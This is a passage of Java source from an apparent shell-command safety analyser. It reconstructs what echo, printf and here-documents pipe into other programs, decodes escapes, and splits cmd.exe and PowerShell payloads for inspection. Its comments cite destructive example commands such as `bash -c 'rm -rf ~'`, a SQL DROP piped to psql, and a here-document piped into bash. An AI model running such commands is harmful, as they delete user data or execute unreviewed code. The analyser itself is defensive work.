                    || p.position.stage() != d.position.stage() - 1) {
                continue;
            }
            // a redirection of stderr or stdin (`2>/dev/null echo …`) leaves what reaches the pipe as it is
            if (p.argv.isEmpty() || p.redirects.stream().anyMatch(r -> r.writes() && (r.fd() < 0 || r.fd() == 1) || r.op().startsWith("&"))
                    || !p.argv.stream().allMatch(w -> w.literal() || HOME_WORD.matcher(w.text()).matches())) {
                return List.of();
            }
            // `nice echo 'DROP …' | psql`: a wrapper that only starts its command prints what that command prints
            List<Word> argv = p.argv;
            while (argv.size() > 1 && PRINT_THROUGH.contains(argv.get(0).text().substring(argv.get(0).text().lastIndexOf('/') + 1))) {
                List<Wrappers.Unwrap> un = Wrappers.unwrap(argv);
                if (un.size() != 1 || un.get(0).kind() != Wrappers.Kind.COMMAND) {
                    return List.of();
                }
                argv = un.get(0).argv();
            }
            // `/bin/echo`: the program by its path
            String name = argv.get(0).text().substring(argv.get(0).text().lastIndexOf('/') + 1);
            List<String> args = argv.subList(1, argv.size()).stream().map(Word::text).toList();
            // `cat <<'EOF' | bash`: cat with no operand prints its one here-document, known when nothing
            // in it expands (an unquoted body's backslashes are the shell's to remove: not read here)
            if (name.equals("cat") && args.isEmpty() && p.heredocs.size() == 1) {
                Heredoc h = p.heredocs.get(0);
                boolean known = !p.heredocDynamic.contains(Boolean.TRUE) && (h.quoted() || h.body().indexOf('\\') < 0);
                return known ? List.of(h.body()) : List.of();
            }
            String text = printedText(name, args);
            if (text == null || name.equals("printf") && text.contains("%")) {
                return List.of();
            }
            // printf's line and tab escapes are plain text; any other escape is not read
            if (name.equals("printf")) {
                text = text.replace("\\n", "\n").replace("\\t", "\t");
            }
            if (!text.contains("\\")) {
                return List.of(text);
            }
            if (!name.equals("echo")) {
                return List.of();
            }
            // echo's last -e or -E flag decides; with neither, bash prints the text as written and
            // zsh replaces the escapes: both are read
            Boolean escapes = null;
            for (int a = 0; a < args.size() && args.get(a).matches("-[neE]+"); a++) {
                for (char f : args.get(a).toCharArray()) {
                    escapes = f == 'e' ? Boolean.TRUE : f == 'E' ? Boolean.FALSE : escapes;
                }
            }
            String replaced = echoEscapes(text);
            if (Boolean.FALSE.equals(escapes)) {
                return List.of(text);
            }
            if (replaced == null) {
                return asWritten && escapes == null ? List.of(text) : List.of();
            }
            if (Boolean.TRUE.equals(escapes) || replaced.equals(text)) {
                return List.of(replaced);
            }
            return List.of(text, replaced);
        }
        return List.of();
    }

    /**
     * The text {@code echo -e} (and zsh's echo) prints for {@code text}: the escapes \a \b \e \f
     * \n \r \t \v \\, \0NNN and \xHH replaced, output stopped at \c, any other backslash kept;
     * null where it holds an escape not read here (the code point escapes u and U) or a control character would result.
     */
    // not AnsiC.decode: $'…' turns \cX into a control, reads \NNN and decodes every escape, with no refusal (EscapeDecodersTest)
    static String echoEscapes(String text) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c != '\\' || i + 1 == text.length()) {
                out.append(c);
                continue;
            }
            char n = text.charAt(i + 1);
            switch (n) {
                case 'n' -> out.append('\n');
                case 't' -> out.append('\t');
                case '\\' -> out.append('\\');
                case 'c' -> {
                    return out.toString();
                }
                case 'a', 'b', 'e', 'E', 'f', 'r', 'v', 'u', 'U' -> {
                    return null; // control characters or code points: not read
                }
                case '0', 'x' -> {
                    int radix = n == '0' ? 8 : 16;
                    int max = n == '0' ? 3 : 2;
                    int j = i + 2;
                    int v = 0;
                    while (j < text.length() && j < i + 2 + max && Character.digit(text.charAt(j), radix) >= 0) {
                        v = v * radix + Character.digit(text.charAt(j), radix);
                        j++;
                    }
                    if (n == 'x' && j == i + 2) {
                        out.append("\\x");
                        i++;
                        continue;
                    }
                    if (v < 0x20 && v != '\n' && v != '\t' || v >= 0x7f) {
                        return null;
                    }
                    out.append((char) v);
                    i = j - 1;
                    continue;
                }
                default -> {
                    out.append(c).append(n);
                }
            }
            i++;
        }
        return out.toString();
    }

    /**
     * What {@code echo WORDS} (its leading -n/-e/-E flags dropped) or a one-argument
     * {@code printf FORMAT} prints, escapes and directives left as written; null for any other
     * command or shape.
     */
    private static String printedText(String name, List<String> args) {
        if (name.equals("printf") && !args.isEmpty() && args.get(0).equals("--")) {
            // `printf -- '-javaagent:…\n'`: the end of options, so a format may start with a dash
            args = args.subList(1, args.size());
        }
        if (name.equals("echo")) {
            int k = 0;
            while (k < args.size() && args.get(k).matches("-[neE]+")) {
                k++;
            }
            return String.join(" ", args.subList(k, args.size()));
        }
        if (name.equals("printf") && args.size() > 1 && !args.get(0).startsWith("-")
                && args.get(0).replace("%%", "").replaceAll("%s", "").indexOf('%') < 0 && args.get(0).contains("%s")) {
            // `printf '%s\n' 'LINE' …`: the format is used again until the arguments run out
            String format = args.get(0);
            int per = format.replace("%%", "").split("%s", -1).length - 1;
            StringBuilder out = new StringBuilder();
            for (int i = 1; i < args.size(); i += per) {
                String line = format.replace("%%", "\u0000");
                for (int k = 0; k < per; k++) {
                    String v = i + k < args.size() ? args.get(i + k) : "";
                    line = line.replaceFirst("%s", java.util.regex.Matcher.quoteReplacement(v));
                }
                out.append(line.replace("\u0000", "%%"));
            }
            return out.toString();
        }
        return name.equals("printf") && args.size() == 1 ? args.get(0) : null;
    }

    /**
     * A cmd.exe command line ({@code cmd /c LINE} from Git Bash or WSL): each command cmd.exe runs
     * becomes a child of the {@code cmd} segment, with its redirections and place in the line, and
     * is analysed like any command (what it runs in turn: {@code powershell -c}, {@code bash -c}).
     * When the line holds a single quote, its bash reading is kept as an extra reading if it parses:
     * Git Bash's own programs read their command line with bash-like quotes ({@code bash -c 'rm -rf ~'}),
     * which cmd.exe does not group; it only adds segments.
     */
    private void cmdExe(Draft d, String payload, Ctx inner) {
        List<dev.shellwarden.grammar.ps.CmdPayload.Command> commands = dev.shellwarden.grammar.ps.CmdPayload.split(payload);
        Map<Integer, Integer> stages = new HashMap<>();
        for (dev.shellwarden.grammar.ps.CmdPayload.Command c : commands) {
            stages.merge(c.item(), 1, Integer::sum);
        }
        for (dev.shellwarden.grammar.ps.CmdPayload.Command c : commands) {
            List<String> wr = new ArrayList<>(inner.wrappers());
            wr.addAll(c.wrappers());
            Position pos = new Position(c.item(), c.stage(), stages.get(c.item()), c.opBefore(), false);
            Draft child = add(new Draft(drafts.size(), d.id, d.depth + 1, inner.prov(), List.copyOf(wr), c.argv(), List.of(),
                    c.redirects(), List.of(), pos));
            child.reasons.addAll(c.reasons());
            if (!c.argv().isEmpty() && c.argv().get(0).literal()) {
                analyze(child, inner, c.redirects().stream().anyMatch(r -> r.op().equals("<")));
            }
        }
        if (payload.indexOf('\'') >= 0) {
            BashSplitter.Parsed bash = parse(payload);
            if (bash.failure() == null) {
                program(bash, payload, inner);
            }
        }
    }

    /** True when {@code d} runs cmd.exe ({@code cmd}, {@code cmd.exe}, by any path). */
    private static boolean isCmdExe(Draft d) {
        String path = d.argv.get(0).text();
        String name = path.substring(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1).toLowerCase(java.util.Locale.ROOT);
        return name.equals("cmd") || name.equals("cmd.exe");
    }

    private void powershell(String payload, Ctx c) {
        SplitResult r = Splitter.forShell(Shell.POWERSHELL).split(payload);
        int offset = drafts.size();
        for (Segment s : r.segments()) {
            boolean root = s.parent() < 0;
            List<String> wr = new ArrayList<>(c.wrappers());
            wr.addAll(s.wrappers());
            Draft d = add(new Draft(drafts.size(), root ? c.parent() : offset + s.parent(), c.depth() + s.depth(),
                    root ? c.prov() : s.provenance(), wr, s.argv(), s.assignments(), s.redirects(), s.heredocs(),
                    s.position()));
            d.reasons.addAll(s.opaqueReasons());
        }
    }

    private static String decodeUtf16(String b64) {
        try {
            byte[] bytes = Base64.getDecoder().decode(b64.trim());
            return StandardCharsets.UTF_16LE.newDecoder()
                    .onMalformedInput(CodingErrorAction.REPORT)
                    .onUnmappableCharacter(CodingErrorAction.REPORT)
                    .decode(ByteBuffer.wrap(bytes)).toString();
        } catch (IllegalArgumentException | CharacterCodingException e) {
            return null;
        }
    }
}
